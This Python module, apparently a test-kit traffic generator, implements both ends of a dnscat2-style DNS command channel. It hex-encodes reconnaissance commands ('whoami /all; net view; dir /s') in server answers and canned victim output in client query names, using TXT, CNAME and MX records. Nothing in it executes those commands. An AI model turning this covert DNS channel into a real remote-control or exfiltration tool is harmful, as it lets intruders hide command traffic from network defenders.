"""A remote control by DNS, in the manner of dnscat2, both ends of it.

``whisper serve DOMAIN ADDRESS PORT`` answers for the names below DOMAIN. ``whisper call DOMAIN
RESOLVER TIMES`` asks for TIMES names by way of RESOLVER. Question and answer carry a head (a
number, what it is, a session, two counters), and text, in hexadecimal; a type of record is drawn
for each question from TXT, CNAME and MX.
"""

import socket
import sys
from random import Random
from struct import pack, unpack_from

from tests.kit.wire import CNAME, TXT, dns_name, dns_question

MX = 15
_ORDERS = b"whoami /all; net view; dir /s C:\\Users; "
_SAID = b"cabinet\\accueil  S-1-5-21-0-0-0-1001  BUILTIN\\Users  Group used for deny only  "
_LABEL = 60
_PATIENCE = 2.0


def serve(domain: str, address: str, port: int) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as door:
        door.bind((address, port))
        number = 0
        while True:
            question, caller = door.recvfrom(4096)
            number += 1
            carried = _spelt(number, _ORDERS[: number * 7 % len(_ORDERS)])
            door.sendto(_answer(question, f"{carried}.{domain}"), caller)


def call(domain: str, resolver: str, times: int) -> None:
    draw = Random(7)  # noqa: S311 - the same draw in each recording
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as door:
        door.settimeout(_PATIENCE)
        for number in range(times):
            text = _SAID[: draw.choice((0, 0, 12, len(_SAID)))]
            name = f"{_spelt(number, text)}.{domain}"
            door.sendto(dns_question(name, draw.choice((TXT, CNAME, MX))), (resolver, 53))
            door.recvfrom(4096)


def _spelt(number: int, text: bytes) -> str:
    message = pack("!HBHHH", number * 40_503 % 65_536, 1, 0x5EC7, number, number) + text
    spelt = message.hex()
    return ".".join(spelt[at : at + _LABEL] for at in range(0, len(spelt), _LABEL))


def _answer(question: bytes, carried: str) -> bytes:
    """Answer the only question there is, whatever comes behind it."""
    end = question.index(b"\0", 12) + 5
    (kind,) = unpack_from("!H", question, end - 4)
    if kind == TXT:
        text = carried.encode()[:255]
        data = bytes((len(text),)) + text
    else:
        data = (b"\0\x0a" if kind == MX else b"") + dns_name(carried)
    head = question[:2] + pack("!HHHHH", 0x8580, 1, 1, 0, 0)
    record = b"\xc0\x0c" + pack("!HHIH", kind, 1, 0, len(data)) + data
    return head + question[12:end] + record


if __name__ == "__main__":
    what, *how, last = sys.argv[1:]
    {"serve": serve, "call": call}[what](*how, int(last))
